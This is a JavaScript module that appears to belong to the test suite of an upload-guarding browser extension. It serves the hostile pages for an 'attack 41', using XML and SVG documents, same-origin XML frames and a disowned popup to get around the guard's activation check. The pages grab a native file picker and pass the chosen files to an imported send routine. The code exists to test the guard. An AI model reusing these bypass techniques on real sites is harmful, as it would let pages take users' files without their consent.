// Hostile pages for the forty-first attack on the upload guard: the
// lockdown's spend (realms.js unheld(doc) and spend(event): a text input's
// native showPicker, made with the document's native createElement) in a
// top document that is XML (application/xml with an XHTML root): there
// createElement('input') makes a null-namespace Element, not an
// HTMLInputElement, so the spend throws (TypeError) and the person's
// activation is never taken. The page makes its own elements with
// createElementNS(XHTML).
// Served raw by server.mjs at /attack41-xml?via=…; tests: attack41.test.mjs.

import { attackPages, grabHelpers, pickerWaysPage, sendScript } from './uploads.mjs';

const XHTML = 'http://www.w3.org/1999/xhtml';

/** Page code shared by the ways (runs in the XML document). */
const helpers = `
  const h = (t) => document.createElementNS('${XHTML}', t);
  window.notes = [];
  const note = (s) => window.notes.push(String(s));
  const last = () => window[window.length - 1];
  const wrapped = (f) => { try { Reflect.construct(f, []); return 'constructs'; } catch (e) { return !/native code/.test(String(e.message)); } };
  const says = (w) => w ? 'showPicker ' + (wrapped(w.HTMLInputElement.prototype.showPicker) ? 'wrapped' : 'NATIVE') : 'no window';
  const frame = () => { const f = h('iframe'); f.src = '/px/never.gif'; f.style.display = 'none'; return f; };
  const fileInput = () => { const i = h('input'); i.type = 'file'; i.addEventListener('change', () => { if (i.files.length) send([...i.files], 'change'); }); return i; };
  const status = () => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-6).join(' / '); };
  const open = document.getElementById('open');
  const root = document.body || document.getElementById('root');
  note('document: ' + document.constructor.name + ', createElement(input) is ' + document.createElement('input').constructor.name + ', silbato wraps showPicker ' + wrapped(HTMLInputElement.prototype.showPicker));`;

/**
 * A frame f in a box's node d's future: box = [inp, d], inp focused; the top's wrapped
 * box.replaceChildren(d); at inp's blur (the browser takes inp out) the page fills d with f (d.append(f), the
 * top's own wrapped append: filledGoing sees it and calls unheld(), whose spend throws here); the native call then
 * puts d in: f gets a new first document, whose native showPicker f's fallback custom element reads as it is
 * connected (end of the call). `onConnect(b)`: what it does then.
 */
const blurFill = (tag, onConnect, inClick) => `
  const f = frame();
  let go = false;
  customElements.define('${tag}', class extends HTMLElement {
    connectedCallback() {
      if (!go) return;
      go = false;
      const b = last();
      note('callback: b ' + says(b) + ', is f ' + (b && b.frameElement === f) + ', activation ' + navigator.userActivation.isActive);
      if (!b || wrapped(b.HTMLInputElement.prototype.showPicker)) return;
      ${onConnect}
    }
  });
  f.append(h('${tag}'));
  const park = h('div');
  root.append(park);
  const run = () => {
    const box = h('div');
    root.append(box);
    const inp = h('input');
    const d = h('div');
    box.append(inp, d);
    inp.focus();
    inp.addEventListener('blur', () => { const a0 = navigator.userActivation.isActive; d.append(f); go = true; note('blur: f in d ' + d.contains(f) + ', activation before ' + a0 + ', after ' + navigator.userActivation.isActive); }, { once: true });
    try { box.replaceChildren(d); } catch (e) { note('threw ' + e.name + ' ' + e.message); }
    go = false;
    note('after: f connected ' + f.isConnected + ', grabbed ' + !!window.grabbed);
  };
  ${inClick ? "open.addEventListener('click', () => { run(); setTimeout(status, 0); });" : 'run();'}`;

const OPEN_AT_ONCE = `
      const input = fileInput();
      try { b.HTMLInputElement.prototype.showPicker.call(input); note('opened in the callback'); } catch (e) { note('callback: ' + e.name); }`;

/** Keep b's native showPicker; move f out (moveBefore keeps its window). */
const KEEP = `
      window.grabbed = b;
      window.grabbedPicker = b.HTMLInputElement.prototype.showPicker;
      try { park.moveBefore(f, null); note('moved out'); } catch (e) { note('moveBefore threw ' + e.name); }`;

const OPEN_KEPT = `
  open.addEventListener('click', () => {
    note('click: activation ' + navigator.userActivation.isActive + ', grabbed ' + !!window.grabbed);
    if (window.grabbed) {
      try { window.grabbedPicker.call(fileInput()); note('opened the kept picker'); } catch (e) { note('kept: ' + e.name); }
    }
    setTimeout(status, 0);
  });`;

const WAYS = {
  // Nothing: a page that only loads (a same-origin XML child of an HTML page).
  blank: '',
  // Control: Silbato's own wrapped showPicker on an XHTML file input, in the click.
  control: `
  open.addEventListener('click', () => { try { fileInput().showPicker(); note('asked'); } catch (e) { note('control: ' + e.name); } setTimeout(status, 0); });`,
  // Control 2: a plain <input type=file> in the XML document, clicked (Silbato's guarded path).
  controlclick: `
  open.addEventListener('click', () => { const i = fileInput(); root.append(i); i.click(); note('clicked'); setTimeout(status, 0); });`,
  // attack 33's blurinclick in an XML top document: the fill is seen (filledGoing), the spend throws.
  xmlblurfill: blurFill('x-xbf-fortyone', OPEN_AT_ONCE, true),
  // The same at load (no click): keep the native showPicker, move f out; the lockdown's spend at the person's
  // press throws too, and the click opens the kept picker.
  xmlblurkeep: `${blurFill('x-xbk-fortyone', KEEP, false)}${OPEN_KEPT}`,
};

export const XML_WAYS = Object.keys(WAYS);

function xmlPage(query) {
  const via = XML_WAYS.includes(query.get('via')) ? query.get('via') : 'control';
  return `<?xml version="1.0" encoding="utf-8"?>
<html xmlns="${XHTML}"><head><title>attack41 xml</title></head><body><button id="open">attach a photo</button><p id="status"></p><script><![CDATA[
${sendScript}
${helpers}
try {
${WAYS[via]}
} catch (e) { window.connectError = String(e); note('set-up threw ' + e.name + ' ' + e.message); }
window.ready = true;
]]></script></body></html>`;
}

/** The same ways in an SVG document (image/svg+xml): the button and the status in a foreignObject. */
function svgPage(query) {
  const via = XML_WAYS.includes(query.get('via')) ? query.get('via') : 'control';
  return `<?xml version="1.0" encoding="utf-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="300"><foreignObject x="0" y="0" width="600" height="300"><div xmlns="${XHTML}" id="root"><button id="open">attach a photo</button><p id="status"></p></div></foreignObject><script><![CDATA[
${sendScript}
${helpers}
try {
${WAYS[via]}
} catch (e) { window.connectError = String(e); note('set-up threw ' + e.name + ' ' + e.message); }
window.ready = true;
]]></script></svg>`;
}

/** Pages served as they are, with their own type: { type, body }. */
export function attack41Raw(path, query) {
  if (path === '/attack41-xml') return { type: 'application/xml; charset=utf-8', body: xmlPage(query) };
  // The same markup as XHTML (createElement makes HTML elements there): the comparison.
  if (path === '/attack41-svg') return { type: 'image/svg+xml', body: svgPage(query) };
  if (path === '/attack41-xhtml') return { type: 'application/xhtml+xml; charset=utf-8', body: xmlPage(query) };
  return undefined;
}

// ---- An HTML page with a same-origin XML child ----
// The top page is HTML (its own copy's spend and own picker work); its child
// frame is an XML document whose copy of Silbato wraps its realm. The top's
// input, opened with the CHILD's wrapped showPicker: the child's page world
// asks the child's isolated world (guard.js 'file-pick'), whose own picker is
// made with the XML document's createElement.
const xmlChild = (src) => `
      const x = document.createElement('iframe');
      x.src = '${src}';
      x.style.display = 'none';
      document.body.append(x);
      x.addEventListener('load', () => {
        const cw = x.contentWindow;
        note('child: ' + cw.document.constructor.name + ', its createElement(input) is ' + cw.document.createElement('input').constructor.name);
        window.grabbed = cw;
        window.grabbedPicker = cw.HTMLInputElement.prototype.showPicker;
      }, { once: true });`;

// ---- A popup whose copy is in a group of its own (its opener cut before its document loads) ----
// As attack40's popupdisowned… ways (the popup at /attack40-child, navigated a second time: natives of its own),
// but the going node d is in a FRAGMENT as the fill is made: box = [inp], inp focused; in the person's click the
// top's wrapped box.replaceChildren(frag) (frag = [d]); at inp's blur (the browser takes inp out; d is still in the
// detached fragment) the page fills d with f through the popup's copy (popup.Element.prototype.append.call(d, f)),
// which knows nothing of the top's entry; the native call then puts d in: f gets a new first document, whose native
// showPicker f's fallback custom element reads at the end of the call and opens at once.
const disowned = (tag, fillWith) => `
      ${grabHelpers}
      const f = frame();
      let go = false;
      customElements.define('${tag}', class extends HTMLElement {
        connectedCallback() {
          if (!go) return;
          go = false;
          const b = last();
          note('callback: frames ' + window.length + ', b: ' + says(b) + ', is f ' + (b && b.frameElement === f) + ', activation ' + navigator.userActivation.isActive);
          if (!b || wrapped(b.HTMLInputElement.prototype.showPicker)) return;
          const input = document.createElement('input');
          input.type = 'file';
          input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
          try { b.HTMLInputElement.prototype.showPicker.call(input); note('opened in the callback'); } catch (e) { note('callback: ' + e.name); }
        }
      });
      f.append(document.createElement('${tag}'));
      const ready = (cw) => {
        note('other copy ready: own append ' + (cw.Element.prototype.append !== Element.prototype.append) + ', opener ' + (cw.opener === window));
        document.getElementById('open').addEventListener('click', () => {
          const box = document.createElement('div');
          document.body.append(box);
          const inp = document.createElement('input');
          box.append(inp);
          const d = document.createElement('div');
          const frag = document.createDocumentFragment();
          frag.append(d);
          inp.focus();
          inp.addEventListener('blur', () => { const a0 = navigator.userActivation.isActive; try { ${fillWith}; } catch (e) { note('fill threw ' + e.name + ' ' + e.message); } go = true; note('blur: d connected ' + d.isConnected + ', f in d ' + d.contains(f) + ', activation before ' + a0 + ', after ' + navigator.userActivation.isActive); }, { once: true });
          try { box.replaceChildren(frag); } catch (e) { note('threw ' + e.name + ' ' + e.message); }
          go = false;
          note('after: f connected ' + f.isConnected);
          setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-5).join(' / '); }, 0);
        });
      };
      const pw = window.open('/attack40-child', 'p' + Math.random().toString(36).slice(2), 'popup,width=200,height=200');
      note('popup ' + (pw ? 'opened' : 'blocked'));
      try { pw.opener = null; } catch (e) { note('disown threw ' + e.name); }
      let step = 0;
      const t = setInterval(() => {
        let url = '', state = '';
        try { url = pw.document.URL; state = pw.document.readyState; } catch (e) { return; }
        if (state !== 'complete') return;
        if (step === 0 && url.includes('/attack40-child') && !url.includes('again')) { step = 1; pw.location.href = '/attack40-child?again'; return; }
        if (step === 1 && url.includes('again')) { clearInterval(t); ready(pw); }
      }, 50);`;
const HTML_WAYS = {
  // The fill through the disowned popup's copy into d in a fragment.
  disownedfrag: disowned('x-dfr-fortyone', 'cw.Element.prototype.append.call(d, f)'),
  // The control: the same fill through the top's own copy (d.append(f)).
  ownfrag: disowned('x-ofr-fortyone', 'd.append(f)'),

  // The child served as application/xml (XHTML root).
  xmlchild: xmlChild('/attack41-xml?via=blank'),
  // The comparison: the same child served as application/xhtml+xml.
  xhtmlchild: xmlChild('/attack41-xhtml?via=blank'),
  // An XML child made by the page itself: a blob: URL of type application/xml (same origin, no address of its own).
  blobxmlchild: xmlChild("' + URL.createObjectURL(new Blob(['<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body>x</body></html>'], { type: 'application/xml' })) + '"),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack41Page = attackPages(41, picker, {});
